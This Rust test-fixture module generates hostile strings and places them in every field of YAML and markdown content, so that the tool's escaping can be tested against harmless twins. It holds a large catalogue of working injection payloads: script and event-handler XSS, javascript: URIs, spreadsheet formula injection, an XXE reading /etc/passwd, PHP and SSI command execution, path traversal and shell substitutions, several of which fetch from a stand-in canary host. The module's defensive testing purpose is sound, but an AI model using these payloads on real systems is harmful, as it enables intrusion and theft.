//! Texts that try to be more than text, and contents that have them in every field.
//!
//! Two tests use them: `untrusted.rs` reads the pages with a tokenizer, and
//! `tests/browser/parts/hostile.mjs` opens them in Chromium. Each content has a harmless twin of
//! the same shape. An element, attribute, cell or property that the twin does not have is a
//! break-out.

use std::collections::BTreeSet;

/// The function that a payload would call if it ran. The browser test waits for it.
const CALL: &str = "window.__pwned=1";
/// The address that a payload would fetch.
const CANARY: &str = "https://canary.example/hit";

/// All payloads, except those that the checks refuse in any text (see [`refused`]).
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    let mut add = |text: &str| {
        all.push(text.replace("CALL", CALL).replace("CANARY", CANARY));
    };
    MARKUP.iter().copied().for_each(&mut add);
    // Break-outs of each kind of quotes, from attributes, titles, scripts, styles and comments.
    for quote in ["\"", "'", "`", "“", "&quot;", "&#34;", "&#39;", "\\\"", "\\u0022", "%22", ""] {
        for rest in [
            " onmouseover=CALL x=",
            "><img src=x onerror=CALL>",
            "></title><script>CALL</script>",
            ";CALL//",
            " style=background:url(CANARY) ",
        ] {
            add(&format!("{quote}{rest}{quote}"));
        }
    }
    for scheme in SCHEMES {
        add(&format!("{scheme}CALL"));
        add(&format!("[a]({scheme}CALL)"));
        add(&format!("<a href={scheme}CALL>a</a>"));
    }
    for first in ["=", "+", "-", "@", "\t=", "＝", "＋", "＠", "|"] {
        add(&format!("{first}cmd|' /C calc'!A0"));
        add(&format!("{first}HYPERLINK(\"CANARY\",\"a\")"));
    }
    OTHERS.iter().copied().for_each(&mut add);
    all.push("ộ".repeat(3_000));
    all.push(
        "Zalgo ".to_owned() + &"e\u{301}\u{316}\u{317}\u{320}\u{323}\u{332}\u{33a}".repeat(40),
    );
    all.push("a".repeat(20_000));
    all.push("<b>".repeat(500));
    let mut seen = BTreeSet::new();
    all.retain(|payload| seen.insert(payload.clone()));
    all
}

#[rustfmt::skip]
const SCHEMES: [&str; 11] = [
    "javascript:", "JaVaScRiPt:", "java\nscript:", "java\tscript:", "javascript&colon;", "&#106;avascript:",
    "&#x6A&#x61vascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=",
    "feed:javascript:",
];

#[rustfmt::skip]
const MARKUP: &[&str] = &[
    "<script>CALL</script>", "<SCRIPT SRC=CANARY></SCRIPT>", "<script/x>CALL</script>", "<<script>CALL//<</script>",
    "<scr<script>ipt>CALL</scr</script>ipt>", "</script><script>CALL</script>", "</title><script>CALL</script>",
    "</textarea><script>CALL</script>", "</style><script>CALL</script>", "</noscript><script>CALL</script>",
    "--><script>CALL</script>", "<!--<script>CALL</script>", "<!-->", "<!--", "-->", "--!>", "]]>", "<![CDATA[",
    "]]><script>CALL</script>", "<![CDATA[<script>CALL</script>]]>", "<?xml version=\"1.0\"?>", "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;", "<!--#exec cmd=\"id\" -->", "<?php system('id') ?>", "<% CALL %>",
    "<img src=x onerror=CALL>", "<img src=CANARY>", "<img/src/onerror=CALL>", "<image src=x onerror=CALL>",
    "<svg onload=CALL>", "<svg><script>CALL</script></svg>", "<svg><animate onbegin=CALL attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=CALL/>#x\">", "<svg><a xlink:href=javascript:CALL><text>a",
    "<svg><foreignObject><body onload=CALL>", "<svg><style><img src=x onerror=CALL></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=CALL>", "<math href=javascript:CALL>a</math>",
    "<math><annotation-xml encoding=text/html><script>CALL</script>", "<iframe src=javascript:CALL>",
    "<iframe srcdoc=\"<script>parent.CALL</script>\">", "<object data=javascript:CALL>", "<embed src=CANARY>",
    "<base href=CANARY>", "<meta http-equiv=refresh content=\"0;url=CANARY\">", "<link rel=stylesheet href=CANARY>",
    "<style>@import 'CANARY';</style>", "<style>*{background:url(CANARY)}</style>", "<body onload=CALL>",
    "<form action=CANARY><button>a", "<input autofocus onfocus=CALL>", "<details open ontoggle=CALL>",
    "<video><source onerror=CALL>", "<audio src=x onerror=CALL>", "<marquee onstart=CALL>", "<select autofocus onfocus=CALL>",
    "<template><script>CALL</script></template>", "<portal src=CANARY>", "<isindex onfocus=CALL>", "<table background=CANARY>",
    "<a href=javascript:CALL>a</a>", "<a href=\"CANARY\" ping=CANARY>a</a>", "<plaintext>", "<xmp><script>CALL</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">", "<p style=\"position:fixed;inset:0\">a",
    "<button formaction=javascript:CALL>a", "<div id=main>", "<input name=querySelector>", "<img name=tiendo>", "</main></body></html>",
    "<", ">", "&", "\"", "'", "`", "&lt;script&gt;CALL&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=CALL&#x3e;",
    "&amp;lt;b&amp;gt;", "&notanentity;", "&#0;", "&#x202e;", "&lt", "&#38;#60;b&#38;#62;", "\\x3cscript\\x3eCALL\\x3c/script\\x3e",
    "\\u003cscript\\u003e", "%3Cscript%3ECALL%3C/script%3E", "+ADw-script+AD4-CALL+ADw-/script+AD4-", "＜script＞CALL＜/script＞",
    "‹script›", "<\u{a0}script>CALL", "<ſcript>CALL</ſcript>",
];

#[rustfmt::skip]
const OTHERS: &[&str] = &[
    // Templates, placeholders and format strings.
    "{{ 7*7 }}", "{{ t.skip }}", "{% include \"base.html\" %}", "{% for x in page %}{{ x }}{% endfor %}", "{# a #}", "{%- raw -%}",
    "{{ page | safe }}", "{{ __tera_context }}", "${7*7}", "#{7*7}", "{ $count }", "{ -brand }", "{ \"{\" }", "{0}", "%s %n %x", "$&", "$1 $`",
    "{ $count -> [one] a *[other] b }",
    // Scripts, JSON, styles.
    "\";CALL;//", "');CALL;('", "\\\";CALL;//", "${CALL}", "`+(CALL)+`", "});CALL;({", "\"}]});CALL//", "\",\"@type\":\"x\"", "__proto__",
    "constructor", "*/CALL/*", "//", "expression(CALL)", "url(CANARY)", "\\3c script\\3e", "}*{background:url(CANARY)",
    // Markdown.
    "[a](CANARY \"\\\" onclick=CALL\")", "![a](CANARY)", "![a](x\"onerror=\"CALL)", "<CANARY>", "<javascript:CALL>", "[a]: javascript:CALL\n\n[a]",
    "[a][b]\n\n[b]: <javascript:CALL> \"x\"", "x[^1]\n\n[^1]: <script>CALL</script>", "x[^\"><script>]\n\n[^\"><script>]: y", "# a {#x onclick=CALL}",
    "| <script> | \" onclick=\"x |\n|---|---|\n| <img onerror=CALL> | y |", "```\"><script>CALL\nx\n```", "~~~html\n<script>CALL</script>\n~~~",
    "    <script>CALL</script>", "<div>\n\n**a**\n\n</div>", "> <script>CALL</script>", "1. <img src=x onerror=CALL>", "*a <b onclick=CALL>*", "\\<script>CALL\\</script>",
    "[![a](javascript:CALL)](javascript:CALL)", "[a](<javascript:CALL>)", "[a](\\javascript:CALL)", "[a](//canary.example/hit)", "[a](\\\\canary.example\\hit)",
    "[a](https:canary.example)", "[a](https://a.example@canary.example/)", "<a@b.example?subject=x&body=y>", "[a](mailto:a@b.example?bcc=x%0d%0a)",
    // Paths and devices.
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "..%252f..%252f", "/etc/passwd", "C:\\Windows", "\\\\server\\share", "file:///etc/passwd",
    "CON", "nul.html", "COM1", "a:b", "a*b?c", "a|b", "~root", "$HOME", "`id`", "$(id)", ";id", "--help", "-rf",
    // Line breaks and feeds.
    "a\nb", "a\n\nb", "a\n- b", "a\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:x", "a\\nEND:VCALENDAR", "a;b,c:d\\e", "BEGIN:VALARM", "a\nDisallow: /", "a\n\nHTTP/1.1 200 OK",
    "\"a\",\"b\"\n=1+1", "a,b;c\td", "\"\"\"", "'", "0", "-1", "1e9", "true", "null", "~", "2024-02-30", "1.10", "0x41", "=", "@",
    // Unicode.
    "한국어 日本語 العربية עברית", "İıſK", "ﬀ ﬁ Ǆ ß ẞ", "👩‍👩‍👧‍👦 🏳️‍🌈", "Đđ Ðð ĐÐƉ", "é vs e\u{301}", "𝒂𝒃𝒄 ᵃᵇᶜ ａｂｃ", "½ ² ① Ⅻ", "ẤỖỆỮ",
    "مرحبا (abc) <b>", "\u{a0}\u{a0}a\u{3000}b", "a\u{fffd}b", "\u{e000}", "𠜎𡃁", "\u{1f1fb}\u{1f1f3}",
];

/// Characters that are refused in every text.
pub(crate) fn refused() -> Vec<String> {
    let mut all = Vec::new();
    for c in [
        '\0',
        '\u{1}',
        '\u{7}',
        '\u{8}',
        '\u{b}',
        '\u{c}',
        '\u{1b}',
        '\u{7f}',
        '\u{80}',
        '\u{85}',
        '\u{9f}',
        '\u{ad}',
        '\u{200b}',
        '\u{200e}',
        '\u{200f}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{2028}',
        '\u{2029}',
        '\u{feff}',
        '\u{fff9}',
        '\u{e0041}',
    ] {
        all.push(format!("a{c}b"));
    }
    all
}

/// A content folder as paths and texts. Record `n` of each kind has text `n` in every field, and
/// unique records have all texts. `bodies` gives the texts that may be in the body of a note.
pub(crate) fn content(texts: &[String], bodies: &[bool]) -> Vec<(String, String)> {
    let all = quoted(&texts.join(" ¦ "));
    let each = |line: &dyn Fn(usize, &str) -> String| -> String {
        texts.iter().enumerate().map(|(n, text)| line(n, &quoted(text))).collect()
    };
    let mut files = vec![
        (
            "site.yaml".to_owned(),
            format!(
                "title: {all}\npublisher: {all}\ncontact: {all}\nnotice: {all}\n\
                 base_url: https://a.example/x/\nlogo: attachments/logo.png\nperiods: [2024-03-31]\nas_of: 2024-06-30\n"
            ),
        ),
        (
            "directive.yaml".to_owned(),
            format!(
                "number: {all}\ndate: 2024-03-01\nplace: {all}\nsubject: {all}\nkind: {all}\nissuer: {all}\n\
                 signer: {{title: {all}, name: {all}}}\nperiod: {{from: 2024-03-01, to: 2024-12-31}}\nbasis: [v0]\n\
                 labels: {{priority: {{one: {all}, many: {all}}}, task: {{one: {all}, many: {all}}}}}\n\
                 recipients:\n{}priorities:\n{}  - {{id: empty, title: {all}, no_tasks: {all}}}\n",
                each(&|_, text| format!("  - {text}\n")),
                each(&|n, text| format!(
                    "  - {{id: p{n}, number: {text}, title: {text}, summary: {text}}}\n"
                )),
            ),
        ),
        (
            "agencies.yaml".to_owned(),
            each(&|n, text| {
                let (short, alias) = (with(text, " S"), with(text, " L"));
                format!(
                    "- {{id: a{n}, name: {text}, short: {short}, aliases: [{alias}], kind: {text}}}\n"
                )
            }),
        ),
        (
            "places.yaml".to_owned(),
            each(&|n, text| format!("- {{id: d{n}, name: {text}, kind: {text}}}\n")),
        ),
        (
            "documents.yaml".to_owned(),
            each(&|n, text| {
                format!(
                    "- id: v{n}\n  symbol: {text}\n  title: {text}\n  issuer: {text}\n  kind: {text}\n  date: 2024-03-05\n  url: https://a.example/v{n}\n\
                     \x20 printed: {{symbol: {text}, title: {text}, date: {text}, issuer: {text}}}\n\
                     \x20 correction: {{symbol: {text}, title: {text}, date: 2024-03-06, issuer: {text}, note: {text}}}\n"
                )
            }),
        ),
        ("attachments/logo.png".to_owned(), "\u{89}PNG".to_owned()),
    ];
    for (n, text) in texts.iter().enumerate() {
        let value = quoted(text);
        files.push((
            format!("tasks/t{n}.yaml"),
            format!(
                "priority: p{n}\nnumber: {value}\ntitle: {value}\nkind: deliverable\nproduct: {value}\nlead: [a{n}]\nsupport: [a{n}]\nplaces: [d{n}]\n\
                 due: {{days: 5, after: {value}, happened: 2024-04-01}}\nextensions: [{{decided: 2024-04-03, due: 2024-05-01, document: v{n}}}]\ndocuments: [v{n}]\n\
                 related: [u{n}]\nupdates:\n  - {{date: 2024-03-20, state: in_progress, text: {value}, percent: 50}}\n\
                 \x20 - {{date: 2024-04-20, state: done, text: {value}, evidence: [v{n}]}}\n"
            ),
        ));
        files.push((
            format!("tasks/u{n}.yaml"),
            format!(
                "priority: p{n}\ntitle: {value}\nkind: deliverable\nlead: a{n}\ndue: {{event: {value}}}\n\
                 updates:\n  - {{date: 2024-06-20, state: blocked, text: {value}}}\n"
            ),
        ));
        files.push((
            format!("notes/n{n}.md"),
            format!(
                "---\ndate: 2024-06-01\ntitle: {value}\nauthor: a{n}\ntasks: [t{n}]\npriorities: [p{n}]\nplaces: [d{n}]\nevidence: [v{n}]\n---\nLời [lành](task:t{n}).\n"
            ),
        ));
        let text = if bodies[n] { text } else { "Lời lành." };
        files.push((
            format!("notes/body{n}.md"),
            format!(
                "---\ndate: 2024-06-02\ntitle: Thân {n}\ntasks: [t{n}]\n---\nLời lành.\n\n{text}\n\n- {text}\n\n# {text}\n\n| a |\n|---|\n| {text} |\n\n\
                 [{text}](task:t{n}) ![{text}](attachments/logo.png) *{text}*[^1]\n\n[^1]: {text}\n"
            ),
        ));
    }
    files
}

/// Texts of the same shape that are harmless.
pub(crate) fn harmless(count: usize) -> Vec<String> {
    (0..count).map(|n| format!("Lời lành {n}")).collect()
}

/// Quotes a text for YAML, which reads JSON strings.
pub(crate) fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

fn with(quoted: &str, tail: &str) -> String {
    format!("{}{tail}\"", &quoted[..quoted.len() - 1])
}
